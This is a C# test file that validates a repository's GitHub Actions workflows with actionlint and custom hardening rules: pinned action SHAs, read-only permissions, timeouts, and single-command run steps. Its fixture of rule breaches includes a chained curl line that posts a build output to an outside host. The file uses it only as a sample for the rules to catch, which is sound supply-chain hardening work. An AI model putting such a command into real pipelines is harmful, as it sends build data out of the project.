using System.Text.RegularExpressions;
using YamlDotNet.RepresentationModel;

namespace AppHost.Tests.Deployment;

/// <summary>
/// The GitHub Actions workflows (<c>.github/workflows/</c>), which test and release what the deployment tests
/// check: actionlint passes on each (<see cref="Validators.LintWorkflows"/>), and each obeys the repository's rules
/// (<see cref="Violations"/>).
/// </summary>
public sealed partial class WorkflowTests
{
    private static readonly string Folder = Path.Combine(Repository.Root, ".github", "workflows");

    /// <summary>Tools a <c>run:</c> step may call directly besides the repository's scripts.</summary>
    private static readonly HashSet<string> Tools = ["dotnet"];

    public static TheoryData<string> Workflows() => [.. Names()];

    [Fact]
    public void There_are_ci_release_and_scheduled_workflows() => Assert.Equal(["ci.yml", "release.yml", "scheduled.yml"], Names());

    private static List<string> Names() =>
        [.. Directory.EnumerateFiles(Folder)
            .Where(f => f.EndsWith(".yml", StringComparison.Ordinal) || f.EndsWith(".yaml", StringComparison.Ordinal))
            .Select(f => Path.GetFileName(f)).Order(StringComparer.Ordinal)];

    [Theory]
    [MemberData(nameof(Workflows))]
    public async Task Actionlint_passes(string workflow)
    {
        var lint = await ProcessRunner.RunAsync(Validators.LintWorkflows, [Path.Combine(Folder, workflow)], TimeSpan.FromSeconds(60));
        Assert.True(lint.ExitCode == 0, lint.Output);
        Assert.Contains("no problems", lint.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Actionlint_catches_an_invalid_key()
    {
        var broken = Path.Combine(Path.GetTempPath(), $"workflow-{Guid.NewGuid():N}.yml");
        var text = await File.ReadAllTextAsync(Path.Combine(Folder, "ci.yml"));
        Assert.Contains("    timeout-minutes:", text, StringComparison.Ordinal);
        await File.WriteAllTextAsync(broken, text.Replace("    timeout-minutes:", "    timeout-minute:", StringComparison.Ordinal));
        try
        {
            var lint = await ProcessRunner.RunAsync(Validators.LintWorkflows, [broken], TimeSpan.FromSeconds(60));
            Assert.True(lint.ExitCode == 1, lint.Output);
            Assert.Contains($"{broken}:", lint.Output, StringComparison.Ordinal);
            Assert.Contains("unexpected key \"timeout-minute\" for \"job\" section", lint.Output, StringComparison.Ordinal);
        }
        finally
        {
            File.Delete(broken);
        }
    }

    [Theory]
    [MemberData(nameof(Workflows))]
    public void Obeys_the_rules(string workflow) =>
        Assert.Empty(Violations(File.ReadAllText(Path.Combine(Folder, workflow))));

    [Fact]
    public void The_rules_catch_each_breach()
    {
        const string Workflow = """
            on: [push]
            permissions:
              contents: write
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684
                  - uses: ./.github/actions/local
                  - run: |
                      scripts/release.sh deploy out
                      scripts/release.sh chart out
                  - run: scripts/release.sh chart out && curl -d @out https://example.com
                  - run: scripts/no-such-script.sh
                  - run: npm publish
                  - run: ./test.sh --filter Workflow
                  - run: dotnet --info
            """;
        Assert.Equal(
        [
            "no concurrency group",
            "top-level permissions must be read or none, contents is write",
            "job build has no timeout-minutes",
            "job build: actions/checkout@v4 is not pinned to a commit SHA with a version comment",
            "job build: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 is not pinned to a commit SHA with a version comment",
            "job build: run is not one line: scripts/release.sh deploy out\nscripts/release.sh chart out\n",
            "job build: run is not one command: scripts/release.sh chart out && curl -d @out https://example.com",
            "job build: run calls scripts/no-such-script.sh, which is no executable file of the repository",
            "job build: run calls npm, neither a repository script nor one of dotnet",
        ], Violations(Workflow));
    }

    /// <summary>
    /// The rules, one message per breach:
    /// <list type="bullet">
    /// <item>top-level <c>permissions</c> is a mapping whose every value is <c>read</c> or <c>none</c> (jobs ask
    /// for more themselves);</item>
    /// <item>a top-level <c>concurrency</c> with a <c>group</c>;</item>
    /// <item>every job with steps has <c>timeout-minutes</c> (a job that calls a reusable workflow cannot: the
    /// called workflow's jobs have theirs);</item>
    /// <item>every <c>uses:</c> of an action or reusable workflow outside the repository (not <c>./</c>) is
    /// <c>owner/repo[/path]@</c> a 40-hex commit SHA, followed on its line by a comment naming the version,
    /// <c># vN[.N[.N]]</c>;</item>
    /// <item>every <c>run:</c> is one line and one command (none of <c>; &amp; | &lt; &gt; ` $(</c> or a line
    /// break) whose program is an executable file of the repository (<c>./test.sh</c>, <c>scripts/release.sh</c>,
    /// a relative path without <c>..</c>) or one of <see cref="Tools"/>; its arguments may name variables
    /// (<c>"$RUNNER_TEMP/release"</c>).</item>
    /// </list>
    /// </summary>
    public static List<string> Violations(string workflowYaml)
    {
        var stream = new YamlStream();
        stream.Load(new StringReader(workflowYaml));
        var root = (YamlMappingNode)stream.Documents[0].RootNode;
        List<string> violations = [];

        if (Child(root, "concurrency") is not { } concurrency
            || (concurrency is YamlMappingNode map ? Child(map, "group") is null : string.IsNullOrWhiteSpace(Scalar(concurrency))))
        {
            violations.Add("no concurrency group");
        }
        if (Child(root, "permissions") is not YamlMappingNode permissions)
        {
            violations.Add("top-level permissions must be a mapping of read or none");
        }
        else
        {
            violations.AddRange(permissions.Children
                .Where(p => Scalar(p.Value) is not ("read" or "none"))
                .Select(p => $"top-level permissions must be read or none, {Scalar(p.Key)} is {Scalar(p.Value)}"));
        }

        var usesLines = workflowYaml.Split('\n').Where(l => UsesLine().IsMatch(l)).ToList();
        foreach (var (name, job) in ((YamlMappingNode)Child(root, "jobs")!).Children.Select(j => (Scalar(j.Key), (YamlMappingNode)j.Value)))
        {
            var steps = Child(job, "steps") as YamlSequenceNode;
            if (steps is not null && Child(job, "timeout-minutes") is null)
            {
                violations.Add($"job {name} has no timeout-minutes");
            }
            var uses = (steps?.Children ?? []).OfType<YamlMappingNode>().Select(s => Child(s, "uses")).Append(Child(job, "uses"))
                .Select(Scalar).OfType<string>();
            foreach (var action in uses.Where(u => !u.StartsWith("./", StringComparison.Ordinal)))
            {
                var pinned = PinnedAction().IsMatch(action)
                    && usesLines.Any(l => l.Contains(action, StringComparison.Ordinal) && VersionComment().IsMatch(l));
                if (!pinned)
                {
                    violations.Add($"job {name}: {action} is not pinned to a commit SHA with a version comment");
                }
            }
            foreach (var run in (steps?.Children ?? []).OfType<YamlMappingNode>().Select(s => Scalar(Child(s, "run"))).OfType<string>())
            {
                if (run.TrimEnd().Contains('\n', StringComparison.Ordinal))
                {
                    violations.Add($"job {name}: run is not one line: {run}");
                    continue;
                }
                if (ShellControl().IsMatch(run))
                {
                    violations.Add($"job {name}: run is not one command: {run}");
                    continue;
                }
                var program = run.Trim().Split(' ', 2)[0];
                if (Tools.Contains(program))
                {
                    continue;
                }
                if (!program.Contains('/', StringComparison.Ordinal))
                {
                    violations.Add($"job {name}: run calls {program}, neither a repository script nor one of {string.Join(", ", Tools)}");
                    continue;
                }
                var path = Path.GetFullPath(Path.Combine(Repository.Root, program));
                if (program.StartsWith('/') || program.Contains("..", StringComparison.Ordinal) || !File.Exists(path)
                    || (!OperatingSystem.IsWindows() && !File.GetUnixFileMode(path).HasFlag(UnixFileMode.UserExecute)))
                {
                    violations.Add($"job {name}: run calls {program}, which is no executable file of the repository");
                }
            }
        }
        return violations;
    }

    private static YamlNode? Child(YamlMappingNode node, string key) =>
        node.Children.TryGetValue(new YamlScalarNode(key), out var value) ? value : null;

    private static string? Scalar(YamlNode? node) => (node as YamlScalarNode)?.Value;

    [GeneratedRegex(@"^\s*(-\s+)?uses:\s")]
    private static partial Regex UsesLine();

    [GeneratedRegex(@"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")]
    private static partial Regex PinnedAction();

    [GeneratedRegex(@"@[0-9a-f]{40}\s+#\s*v\d+(\.\d+){0,2}\b")]
    private static partial Regex VersionComment();

    [GeneratedRegex(@"[;&|<>`]|\$\(")]
    private static partial Regex ShellControl();
}
